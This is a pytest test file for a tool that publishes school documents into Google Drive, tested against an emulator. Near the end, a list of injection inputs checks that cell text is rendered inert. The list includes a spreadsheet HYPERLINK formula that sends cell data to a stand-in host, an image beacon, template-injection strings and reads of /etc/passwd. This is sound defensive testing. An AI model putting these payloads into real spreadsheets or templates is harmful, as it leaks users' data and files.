"""Documents in Drive as people see them: where they lie, that links stay, what they cost, and whose
words win."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Iterator
from dataclasses import replace

import pytest

from sheets_sync.core.model.papers import Published, Unpublished
from sheets_sync.errors import Misused
from tests.google_emulator.drive.model import DOCUMENT, FOLDER
from tests.google_emulator.server import Emulator
from tests.google_emulator.switches import Switches
from tests.google_emulator.wire import Person
from tests.support.drive import TEACHER, US, SchoolDrive, paper


@pytest.fixture
def switches() -> Switches:
    return Switches()


@pytest.fixture
def school(switches: Switches) -> Iterator[SchoolDrive]:
    with Emulator(switches) as google:
        yield SchoolDrive(google)
        assert google.bugs == []
        assert google.world.drive.mails == []


@pytest.fixture(params=[True, False], ids=["as documented", "otherwise"])
def either(request: pytest.FixtureRequest, switches: Switches, school: SchoolDrive) -> SchoolDrive:
    """Under both answers of what Google does not document."""
    switches.conversion_keeps_modified_time = switches.renaming_changes_modified_time = (
        request.param
    )
    return school


def test_a_doc_and_a_pdf_lie_where_the_path_says(school: SchoolDrive):
    (result,) = school.publish(paper())
    doc = school.linked(result)
    assert school.path(doc) == "Praktik Kinerja/2026/G001 Guru G001/2026_A_G001"
    assert [school.path(each) for each in school.pdfs] == [
        "Praktik Kinerja/2026/G001 Guru G001/2026_A_G001.pdf"
    ]
    assert "Isi" in school.text(doc)
    assert school.pdfs[0].content.startswith(b"%PDF-")
    assert isinstance(result, Published)
    assert result.target == f"https://docs.google.com/document/d/{doc.id}/edit"
    assert result.path == paper().path


def test_letters_that_no_font_has_are_told(school: SchoolDrive):
    (result,) = school.publish(paper(text="Isi \U00012000"))
    assert isinstance(result, Published)
    assert "huruf" in result.remark


def test_what_it_costs(either: SchoolDrive):
    documents = [paper(f"G{at:03}", kind=kind) for at in range(2) for kind in ("A", "B")]
    results = either.publish(*documents)
    assert [result.key for result in results] == [document.key for document in documents]
    made = either.requests()
    assert len(made) == 1 + 2 * len(documents) + len(either.files(FOLDER)) - 1
    assert sum(each == "GET files" for each in made) == 1
    either.publish(*documents)
    assert either.requests() == ["GET files"]
    either.publish(*(paper(f"G{at:03}", 2, "Baru") for at in range(2)))
    updated = either.requests()
    assert [each.split("/")[0] for each in updated] == ["GET files", *["PATCH files"] * 4]
    either.publish()
    assert either.requests() == []


def test_links_stay_and_the_versions_before_are_kept(either: SchoolDrive):
    results = [either.publish(paper(version=at, text=f"Versi {at}"))[0] for at in (1, 2, 3)]
    assert len({result.target for result in results if isinstance(result, Published)}) == 1
    (doc,), (pdf,) = either.docs, either.pdfs
    assert "Versi 3" in either.text(doc)
    assert len(doc.revisions) == 3
    assert [revision.keep_forever for revision in pdf.revisions] == [True, True, True]


def test_a_run_finds_what_it_just_made(either: SchoolDrive):
    run = either.run()
    results = [next(iter(run.publish([paper(version=at, text=f"Versi {at}")]))) for at in (1, 2)]
    assert len(either.docs) == len(either.pdfs) == 1
    assert either.linked(results[1]).id == either.linked(results[0]).id


def test_without_folder_they_lie_beside_the_spreadsheet(school: SchoolDrive):
    (result,) = school.publish(paper(), folder=None)
    assert school.path(school.linked(result)).startswith("Praktik Kinerja/2026/")
    school.requests()
    assert school.looks == 2  # in the trash? in which folder?
    school.publish(paper("G002"), folder=None)
    school.requests()
    assert school.looks == 1


@pytest.mark.long
def test_documents_that_go_out_together_share_their_folders(school: SchoolDrive):
    school.google.before(
        lambda request: time.sleep(0.3) if request.path == "/drive/v3/files" else None
    )
    school.publish(*(paper(kind=kind) for kind in ("A", "B", "C", "E")))
    assert sorted(each.name for each in school.files(FOLDER)) == [
        "2026",
        "G001 Guru G001",
        "Praktik Kinerja",
    ]


def test_another_folder_begins_a_tree_of_its_own(school: SchoolDrive):
    (first,) = school.publish(paper())
    other = school.drive.add("Arsip", FOLDER, [school.folder], US).id
    second, third = school.publish(paper(version=2, text="Baru"), paper("G002"), folder=other)
    assert school.linked(second).id == school.linked(first).id
    assert school.path(school.linked(third)).startswith("Praktik Kinerja/Arsip/2026/")


def test_folders_may_be_renamed_and_moved(school: SchoolDrive):
    school.publish(paper())
    year = next(each for each in school.files(FOLDER) if each.name == "2026")
    year.name = "Tahun 2026 (lama)"
    school.publish(paper("G002"))
    assert len([each for each in school.files(FOLDER) if each.parents == [school.folder]]) == 1


def test_a_service_account_publishes_into_a_shared_drive(school: SchoolDrive):
    drive = school.drive.add_shared_drive(
        "Sekolah", {"program@proyek.iam.gserviceaccount.com": "fileOrganizer"}
    )
    school.drive.share(school.workbook, "program@proyek.iam.gserviceaccount.com", "writer")
    options = {"folder": drive, "token": "token:sa:program"}
    (first,) = school.publish(paper(), **options)
    (second,) = school.publish(paper(version=2, text="Baru"), **options)
    assert school.drive.drive_of(school.linked(first)) == drive
    assert school.linked(second).id == school.linked(first).id
    assert all("supportsAllDrives" in sent.query for sent in school.google.log)


def test_an_edit_one_second_later_is_never_overwritten(either: SchoolDrive):
    (first,) = either.publish(paper())
    either.wait(1)
    either.edit(either.linked(first))
    (second,) = either.publish(paper(version=2, text="Versi dua"))
    assert either.text(either.linked(first)) == "Kata seorang guru."
    assert "Versi dua" in either.text(either.linked(second))
    assert sorted(each.name for each in either.docs) == ["2026_A_G001", "2026_A_G001_v2"]
    (third,) = either.publish(paper(version=3, text="Versi tiga"))
    assert either.linked(third).id == either.linked(second).id
    assert sorted(each.name for each in either.docs) == ["2026_A_G001", "2026_A_G001_v3"]
    assert either.text(either.linked(first)) == "Kata seorang guru."


def test_an_edit_in_the_same_minute_by_the_same_account_counts_too(either: SchoolDrive):
    (first,) = either.publish(paper())
    either.wait(0.001)
    either.drive.edit_document(either.linked(first).id, US, "Kata kepala sekolah.")
    either.publish(paper(version=2, text="Versi dua"))
    assert either.text(either.linked(first)) == "Kata kepala sekolah."


def test_the_same_content_is_adopted_with_what_a_person_added(either: SchoolDrive):
    (first,) = either.publish(paper())
    either.edit(either.linked(first))
    (again,) = either.publish(paper())
    assert isinstance(first, Published)
    assert again == replace(first, left=True)
    assert either.text(either.linked(first)) == "Kata seorang guru."
    assert len(either.docs) == len(either.pdfs) == 1


def test_a_signed_scan_in_place_of_the_pdf_stays(either: SchoolDrive):
    either.publish(paper())
    (signed,) = either.pdfs
    either.replace_bytes(signed, b"%PDF-1.7 hasil pindai")
    either.publish(paper(version=2, text="Versi dua"))
    assert signed.content == b"%PDF-1.7 hasil pindai"
    assert sorted(each.name for each in either.pdfs) == ["2026_A_G001.pdf", "2026_A_G001_v2.pdf"]


def test_a_scan_counts_also_before_its_time_shows(switches: Switches, either: SchoolDrive):
    switches.modified_time_lag = 180.0
    either.publish(paper())
    (signed,) = either.pdfs
    either.replace_bytes(signed, b"%PDF-1.7 hasil pindai")
    either.publish(paper(version=2, text="Versi dua"))
    assert signed.content == b"%PDF-1.7 hasil pindai"


def test_an_edit_that_does_not_show_yet_stays_among_the_revisions(
    switches: Switches, either: SchoolDrive
):
    switches.modified_time_lag = 180.0
    (first,) = either.publish(paper())
    either.edit(either.linked(first))
    (second,) = either.publish(paper(version=2, text="Versi dua"))
    doc = either.linked(second)
    assert doc.id == either.linked(first).id
    listed = either.run()._shelf.drive._http.request(
        "GET", f"https://www.googleapis.com/drive/v3/files/{doc.id}/revisions"
    )
    assert len(listed.json()["revisions"]) == 3
    assert [revision.by for revision in doc.revisions] == [US.email, TEACHER.email, US.email]
    assert doc.revisions[1].content == b"Kata seorang guru."


def test_a_person_s_copy_stays_theirs(either: SchoolDrive):
    (first,) = either.publish(paper())
    made = either.drive.files
    before = set(made)
    for each in (either.linked(first), *either.pdfs):
        person_copies(either, each.id)
    copies = [made[file_id] for file_id in set(made) - before]
    kept = {each.id: each.content for each in copies}
    (second,) = either.publish(paper(version=2, text="Versi dua"))
    assert second == first
    assert {each.id: each.content for each in copies} == kept
    assert not any(each.trashed for each in copies)
    assert "Versi dua" in either.text(either.linked(second))


def person_copies(school: SchoolDrive, file_id: str) -> None:
    """In the browser: the copy may carry our mark."""
    import requests

    school.wait(60)
    answer = requests.post(
        f"{school.google.url}/drive/v3/files/{file_id}/copy?supportsAllDrives=true",
        json={},
        headers={"Authorization": f"Bearer user:{TEACHER.email}"},
        timeout=10,
    )
    assert answer.status_code == 200


@pytest.mark.parametrize("for_good", [False, True])
def test_a_document_in_the_trash_is_made_anew_once(either: SchoolDrive, for_good: bool):
    (first,) = either.publish(paper())
    for each in (either.linked(first), *either.pdfs):
        if for_good:
            either.drive.delete(each.id)
        else:
            each.trashed = True
    (again,) = either.publish(paper(linked=target(first)))
    assert target(again) != target(first)
    assert len(either.docs) == len(either.pdfs) == 1
    assert either.docs[0].name == "2026_A_G001"


@pytest.mark.parametrize("for_good", [False, True])
def test_a_document_that_goes_away_after_the_search_is_made_anew_once(
    either: SchoolDrive, for_good: bool
):
    (first,) = either.publish(paper())

    def away(request: object) -> None:
        if request.method != "PATCH" or either.drive.files.get(either_id) is None:  # type: ignore[attr-defined]
            return
        if for_good:
            either.drive.delete(either_id)
        else:
            either.drive.files[either_id].trashed = True

    either_id = either.linked(first).id
    either.google.before(away)
    (second,) = either.publish(paper(version=2, text="Versi dua", linked=target(first)))
    assert target(second) != target(first)
    assert "Versi dua" in either.text(either.linked(second))
    assert len(either.docs) == len(either.pdfs) == 1


def test_only_the_doc_in_the_trash_is_made_anew(either: SchoolDrive):
    (first,) = either.publish(paper())
    either.linked(first).trashed = True
    (again,) = either.publish(paper(linked=target(first)))
    assert len(either.docs) == len(either.pdfs) == 1
    (next_one,) = either.publish(paper(version=2, text="Versi dua", linked=target(again)))
    assert next_one == again


def test_of_another_cloud_project_s_documents_nothing_is_overwritten(either: SchoolDrive):
    """`appProperties` belong to one project: after a change the old documents show no mark."""
    (first,) = either.publish(paper())
    for each in either.drive.files.values():
        each.app_properties = {}
    old = either.linked(first).content
    (second,) = either.publish(paper(version=2, text="Versi dua", linked=target(first)))
    assert either.linked(first).content == old
    assert either.linked(second).name == "2026_A_G001_v2"


def test_two_workbooks_in_one_folder_do_not_meet(school: SchoolDrive):
    school.publish(paper())
    other = SchoolDrive.__new__(SchoolDrive)
    other.__dict__ = {
        **school.__dict__,
        "workbook": school.drive.add("Lain", "x/y", [school.folder], US).id,
    }
    other.publish(paper(text="Sekolah lain"))
    assert len(school.docs) == len(school.pdfs) == 2


def test_a_name_with_an_apostrophe_ends_no_query(school: SchoolDrive):
    school.publish(paper("G'1\\"))
    assert len(school.docs) == 1
    school.google.faults.add("drop after", "POST /upload")
    (result,) = school.publish(paper("G'2\\"))
    assert isinstance(result, Published)
    assert len(school.docs) == 2


def test_more_than_a_page_is_found(school: SchoolDrive):
    first = school.publish(paper("G001"))
    mark = dict(school.docs[0].app_properties)
    for at in range(1200):
        file = school.drive.add(f"lain {at}", DOCUMENT, [school.folder], US)
        file.app_properties = {**mark, "key": f"X{at}/A", "sent": ""}
    school.requests()
    assert school.publish(paper("G001")) == first
    assert school.requests() == ["GET files", "GET files"]


def test_a_search_that_was_not_everywhere_is_asked_again_where_documents_lie(school: SchoolDrive):
    drive = school.drive.add_shared_drive("Sekolah", {US.email: "fileOrganizer"})
    (first,) = school.publish(paper(), folder=drive)
    school.drive.incomplete_search = True
    school.requests()
    (second,) = school.publish(paper(version=2, text="Versi dua"), folder=drive)
    assert second == first
    assert [each.split()[0] for each in school.requests()] == [
        "GET",
        "GET",
        "GET",
        "PATCH",
        "PATCH",
    ]


def test_faults_of_templates_stop_before_the_first_request(school: SchoolDrive):
    from sheets_sync.adapters.resources import read_template
    from sheets_sync.wiring.places import google_documents

    def misspelt(name: str) -> str:
        return (
            read_template(name) + "{{ salah_ketik }}"
            if name == "persiapan.html.j2"
            else read_template(name)
        )

    run = google_documents(
        school.run()._shelf.drive._http, school.workbook, school.folder, misspelt
    )
    with pytest.raises(Misused, match="«salah_ketik»"):
        list(run.publish([paper()]))
    assert school.requests() == []


HOSTILE = (
    '=HYPERLINK("https://jahat.example/?x="&A1)',
    '=IMPORTXML("https://jahat.example","//a")',
    '<a href="https://jahat.example">klik</a>',
    '<img src="https://jahat.example/x.png">',
    "![gambar](https://jahat.example/x.png) [klik](javascript:alert(1))",
    '#link("https://jahat.example")[klik] #image("/etc/passwd")',
    "{{ ''.__class__ }} {% include '/etc/passwd' %}",
    "https://jahat.example/tautan",
    "+62 @nama -1 =1+1",
)


@pytest.mark.long
def test_text_from_cells_is_text_and_nothing_else(school: SchoolDrive):
    results = school.publish(
        *(paper(f"G{at:03}", text=text, kind="ringkasan") for at, text in enumerate(HOSTILE))
    )
    for text, result in zip(HOSTILE, results, strict=True):
        doc = school.linked(result)
        assert text in school.text(doc).replace("\xad", "")
        with zipfile.ZipFile(io.BytesIO(doc.content)) as word:
            names, content = (
                word.namelist(),
                {name: word.read(name).decode("utf-8", "ignore") for name in word.namelist()},
            )
        links = "".join(content[name] for name in names if name.endswith(".rels"))
        assert 'TargetMode="External"' not in links
        assert "/hyperlink" not in links
        assert "w:hyperlink" not in content["word/document.xml"]
        assert "HYPERLINK" not in "".join(content["word/document.xml"].split("<w:instrText")[1:])
        assert links.count('relationships/image"') == charts(doc.content)


def charts(word: bytes) -> int:
    """Pictures that the program draws itself: the baseline and endline charts."""
    import docx

    return len(docx.Document(io.BytesIO(word)).inline_shapes)


def test_readers_of_the_folder_are_told_what_to_share(school: SchoolDrive):
    stranger = Person("operator@sekolah.example")
    school.drive.share(school.folder, stranger.email, "reader")
    (result,) = school.publish(paper(), token=f"token:user:{stranger.email}")
    assert isinstance(result, Unpublished)
    assert "Editor" in result.message


def target(result: Published | Unpublished) -> str:
    assert isinstance(result, Published), result
    return result.target
